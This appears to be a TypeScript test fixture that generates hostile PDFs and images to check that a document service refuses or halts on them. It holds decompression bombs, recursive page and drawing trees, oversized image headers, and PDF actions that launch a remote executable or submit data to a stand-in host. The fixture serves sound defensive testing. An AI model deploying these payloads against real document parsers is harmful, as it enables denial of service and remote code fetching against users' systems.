import { deflateSync } from 'node:zlib';
import { encode, frame, portrait, segment } from '../../photo/make-jpeg.ts';

/** A file made to hurt who opens it, and what must be said of it. */
export interface HostileFile {
  bytes: Uint8Array;
  says: RegExp;
}

/** Objects of a PDF by number; the first is the catalog. */
function pdf(...objects: readonly (string | [dict: string, stream: Uint8Array])[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = text.length;
    const body =
      typeof object === 'string'
        ? object
        : `<< ${object[0]} /Length ${object[1].length} >>\nstream\n${Buffer.from(object[1]).toString('latin1')}\nendstream`;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const from = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${from}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (rest: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${rest} >>`;
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const packed = (...texts: (string | Uint8Array)[]) =>
  texts.reduce<Uint8Array>((_, text) => deflateSync(text, { level: 9 }), new Uint8Array());

/** One page whose content is these bytes, unpacked by these filters. */
function onePage(content: Uint8Array, filters = '/FlateDecode', resources = ''): Uint8Array {
  return pdf(CATALOG, PAGES, page(`/Contents 4 0 R /Resources << ${resources} >>`), [`/Filter [${filters}]`, content]);
}

/** A million pages: four levels of lists, each of which names the next ten, a hundred, a thousand times. */
function millionPages(): Uint8Array {
  const level = (kid: number, times: number, count: number) =>
    `<< /Type /Pages /Kids [${Array.from({ length: times }, () => `${kid} 0 R`).join(' ')}] /Count ${count} >>`;
  return pdf(CATALOG, level(3, 100, 1_000_000), level(4, 100, 10_000), level(5, 100, 100), page(''));
}

const ACTIONS = [
  '/S /JavaScript /JS (app.launchURL\\("https://elsewhere.example/js"\\); this.submitForm\\("https://elsewhere.example/form"\\))',
  '/S /Launch /F (https://elsewhere.example/launch.exe)',
  '/S /URI /URI (https://elsewhere.example/uri)',
  '/S /SubmitForm /F (https://elsewhere.example/submit)',
  '/S /GoToR /F (https://elsewhere.example/other.pdf) /D [0 /Fit]',
  '/S /ImportData /F (https://elsewhere.example/data.fdf)',
];

/** Actions when it is opened, seen and closed, in a field and in a link; content and picture that stand at other addresses. */
function acting(): Uint8Array {
  const all = ACTIONS.map((action) => `<< ${action} >>`);
  const [first = '', ...rest] = ACTIONS;
  const chain = rest.reduceRight((next, action) => `<< ${action} /Next ${next} >>`, '<< /S /Named /N /Print >>');
  const outside = '/F << /Type /Filespec /FS /URL /F (https://elsewhere.example/content) >>';
  return pdf(
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${first} /Next ${chain} >> /AA << /WC ${all[0]} /DP ${all[1]} >> /AcroForm << /Fields [5 0 R] /XFA (<xdp/>) >> /Names << /JavaScript << /Names [(a) ${all[0]}] >> >> >>`,
    PAGES,
    page(
      `/Contents 4 0 R /AA << /O ${all[2]} /C ${all[3]} >> /Annots [5 0 R] /Resources << /XObject << /Im 6 0 R >> >>`,
    ),
    ['', Buffer.from('q 595 0 0 842 0 0 cm /Im Do Q')],
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 595 842] /A ${all[2]} /AA << /E ${all[0]} /K ${all[0]} >> >>`,
    [
      `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 ${outside}`,
      Buffer.alloc(0),
    ],
  );
}

function png(width: number, height: number, rows: Uint8Array): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const ends = Buffer.alloc(4);
    ends.writeUInt32BE(crc(body));
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, body, ends]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const magic = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([magic, chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** A JPEG of this size in so many passes, each of which walks the whole picture and adds next to nothing; `tables` are those of an honest one. */
export function manyPasses(tables: readonly number[], width: number, height: number, passes: number): Uint8Array {
  const first = [...segment(0xda, [3, 1, 0, 2, 0x11, 3, 0x11, 0, 0, 0]), 0x12];
  const more = Array.from({ length: passes - 1 }, (_, nth) => [
    ...segment(0xda, [1, (nth % 3) + 1, 0x11, 1, 63, 0]),
    0x12,
  ]);
  return Uint8Array.from([0xff, 0xd8, ...tables, ...frame(0xc2, width, height), ...first, ...more.flat(), 0xff, 0xd9]);
}

/** The tables of colours and codes in a JPEG. */
export function tablesOf(jpeg: Uint8Array): number[] {
  const tables: number[] = [];
  for (let at = 2; jpeg[at + 1] !== 0xda && at < jpeg.length; ) {
    const next = at + 2 + (((jpeg[at + 2] ?? 0) << 8) | (jpeg[at + 3] ?? 0));
    if (jpeg[at + 1] === 0xdb || jpeg[at + 1] === 0xc4) tables.push(...jpeg.subarray(at, next));
    at = next;
  }
  return tables;
}

function photograph(): Uint8Array {
  return encode(600, 800, portrait(600, 800, [255, 255, 255]));
}

/** Told apart without opening them, or refused while they are opened. */
export const REFUSED: Readonly<Record<string, () => HostileFile>> = {
  'a tree of pages that holds itself': () => ({
    bytes: pdf(CATALOG, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>'),
    says: /打不开|没有读完|没有页/,
  }),
  'a million pages': () => ({ bytes: millionPages(), says: /有1000000页，超过200页/ }),
  'actions of every kind': () => ({ bytes: acting(), says: /附件1/ }),
  'a picture that claims 65535 × 65535': () => ({
    bytes: png(65_535, 65_535, Buffer.alloc(1_000)),
    says: /图片过大/,
  }),
  'a photograph that claims 65535 × 65535': () => ({
    bytes: Uint8Array.from([0xff, 0xd8, ...frame(0xc0, 65_535, 65_535), 0xff, 0xd9]),
    says: /图片过大/,
  }),
  'a photograph cut in its head': () => ({
    bytes: photograph().subarray(0, 100),
    says: /看不出大小/,
  }),
  'a photograph cut in its writing': () => ({
    bytes: photograph().subarray(0, photograph().length >> 1),
    says: /附件1/,
  }),
};

const TOO_MUCH = /有内容解压后过大，已停止/;

/** Opened, and ended when their time is over, or done before. */
export const ENDED: Readonly<Record<string, () => HostileFile>> = {
  'a drawing that draws itself': () => ({
    bytes: pdf(
      CATALOG,
      PAGES,
      page('/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>'),
      ['', Buffer.from('/X Do')],
      [
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
        Buffer.from('/X Do /X Do'),
      ],
    ),
    says: /附件1/,
  }),
  'a stream of a gigabyte in a kilobyte': () => ({
    bytes: onePage(packed('', packed('', Buffer.alloc(1 << 30, 32))), '/FlateDecode /FlateDecode'),
    says: TOO_MUCH,
  }),
  'filters that hand on a hundred megabytes each': () => ({
    bytes: onePage(handedOn(100_000_000, 5), `/FlateDecode${' /RunLengthDecode'.repeat(5)}`),
    says: TOO_MUCH,
  }),
  'thirty million strokes': () => ({
    bytes: onePage(packed('', Buffer.from('0 0 m 595 842 l S\n'.repeat(10_000_000)))),
    says: /附件1/,
  }),
  'patterns within patterns': () => ({ bytes: patterns(), says: /附件1/ }),
  'a photograph of forty megapixels in ten thousand passes': () => ({
    bytes: manyPasses(tablesOf(photograph()), 8_000, 5_000, 10_000),
    says: /附件1/,
  }),
  'a picture of sixty megapixels in sixty kilobytes': () => ({
    bytes: png(10_000, 6_000, Buffer.alloc(6_000 * 30_001, 0)),
    says: /附件1/,
  }),
};

/** So many spaces, packed once and written out as runs that repeat nothing so many times. */
function handedOn(size: number, times: number): Uint8Array {
  let bytes = Buffer.alloc(size, 32);
  for (let nth = 0; nth < times; nth += 1) {
    const runs = Buffer.alloc(Math.ceil(bytes.length / 128) * 129);
    for (let at = 0, to = 0; at < bytes.length; at += 128, to += 129) {
      runs[to] = Math.min(128, bytes.length - at) - 1;
      bytes.copy(runs, to + 1, at, at + 128);
    }
    bytes = runs;
  }
  return deflateSync(bytes);
}

/** Ten drawings, each of which draws the next twenty times: twenty to the tenth. */
function patterns(): Uint8Array {
  const drawings = Array.from({ length: 10 }, (_, nth): [string, Uint8Array] => [
    `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${6 + nth} 0 R >> >>`,
    Buffer.from('/X Do\n'.repeat(20)),
  ]);
  return pdf(
    CATALOG,
    PAGES,
    page('/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>'),
    ['', Buffer.from('/X Do')],
    ...drawings,
    ['/Type /XObject /Subtype /Form /BBox [0 0 595 842]', Buffer.from('0 0 m 595 842 l S')],
  );
}
